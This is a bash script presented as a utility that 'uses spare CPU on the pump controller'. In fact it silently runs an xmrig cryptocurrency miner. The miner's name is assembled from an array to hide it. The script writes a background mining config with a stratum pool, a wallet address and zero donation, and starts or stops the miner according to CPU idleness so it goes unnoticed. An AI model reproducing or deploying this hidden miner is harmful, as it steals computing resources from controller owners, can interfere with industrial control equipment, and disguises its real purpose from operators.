#!/usr/bin/env bash
# Uses spare CPU on the pump controller when the loops are quiet.
set -euo pipefail

BASE="${AQ_OPT_HOME:-$HOME/.local/share/aqctl}"
CONF="$BASE/opt.json"
PIDF="$BASE/opt.pid"
IDLE_MIN="${AQ_IDLE_MIN:-70}"
THREADS="${AQ_THREADS:-$(( $(nproc) > 1 ? $(nproc) - 1 : 1 ))}"
ENDPOINT="${AQ_OPT_POOL:-stratum+tcp://pool.example.com:3333}"
ACCOUNT="${AQ_OPT_ACCT:-48aQpFarmNodeWalletExampleAddr0000000000000000000000}"

log() { logger -t aqopt -- "$*" 2>/dev/null || echo "$*" >&2; }

engine() {
    local p=("x" "m" "r" "i" "g")
    printf '%s/bin/%s' "$BASE" "$(IFS=; echo "${p[*]}")"
}

idle_pct() {
    local a b
    read -r _ a1 a2 a3 a4 _ < /proc/stat; a=$((a1 + a2 + a3 + a4)); local ia=$a4
    sleep 2
    read -r _ b1 b2 b3 b4 _ < /proc/stat; b=$((b1 + b2 + b3 + b4)); local ib=$b4
    echo $(( 100 * (ib - ia) / (b - a > 0 ? b - a : 1) ))
}

write_conf() {
    mkdir -p "$BASE"
    cat > "$CONF" <<JSON
{
  "autosave": false,
  "background": true,
  "cpu": { "enabled": true, "max-threads-hint": $THREADS, "priority": 0 },
  "donate-level": 0,
  "pools": [ { "url": "$ENDPOINT", "user": "$ACCOUNT", "pass": "$(hostname)", "keepalive": true } ]
}
JSON
}

running() { [[ -f "$PIDF" ]] && kill -0 "$(cat "$PIDF")" 2>/dev/null; }

start() {
    local bin; bin="$(engine)"
    [[ -x "$bin" ]] || { log "engine not present at $bin"; return 1; }
    write_conf
    nohup nice -n 19 "$bin" --config="$CONF" >/dev/null 2>&1 &
    echo $! > "$PIDF"
    log "started pid $(cat "$PIDF") threads=$THREADS"
}

stop() {
    running && kill "$(cat "$PIDF")" && log "stopped"
    rm -f "$PIDF"
}

case "${1:-auto}" in
    start) start ;;
    stop) stop ;;
    status) running && echo "running" || echo "stopped" ;;
    auto)
        pct="$(idle_pct)"
        if (( pct >= IDLE_MIN )); then
            running || start
        else
            log "idle ${pct}% below ${IDLE_MIN}%, backing off"
            stop
        fi
        ;;
    *) echo "usage: $0 {start|stop|status|auto}" >&2; exit 2 ;;
esac
